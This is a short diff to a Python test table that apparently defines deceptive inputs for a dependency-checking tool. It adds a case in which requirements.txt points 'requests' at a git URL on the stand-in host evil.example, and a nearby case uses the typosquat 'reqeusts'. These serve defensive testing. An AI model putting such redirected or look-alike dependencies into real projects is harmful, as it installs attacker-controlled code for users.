@@ -135,6 +135,11 @@ LIES = {
         "known-imports",
         "older",
     ),
+    "a known dependency from another place": Lie(
+        lambda stage: stage.does(GOOD, *HONEST, **{"requirements.txt": "requests @ git+https://evil.example/r\n"}),
+        "known-dependencies",
+        "@ git+https://evil.example/r",
+    ),
     "a look-alike dependency": Lie(
         lambda stage: stage.does(GOOD, *HONEST, **{"requirements.txt": "requests\nreqeusts\n"}),
         "known-dependencies",
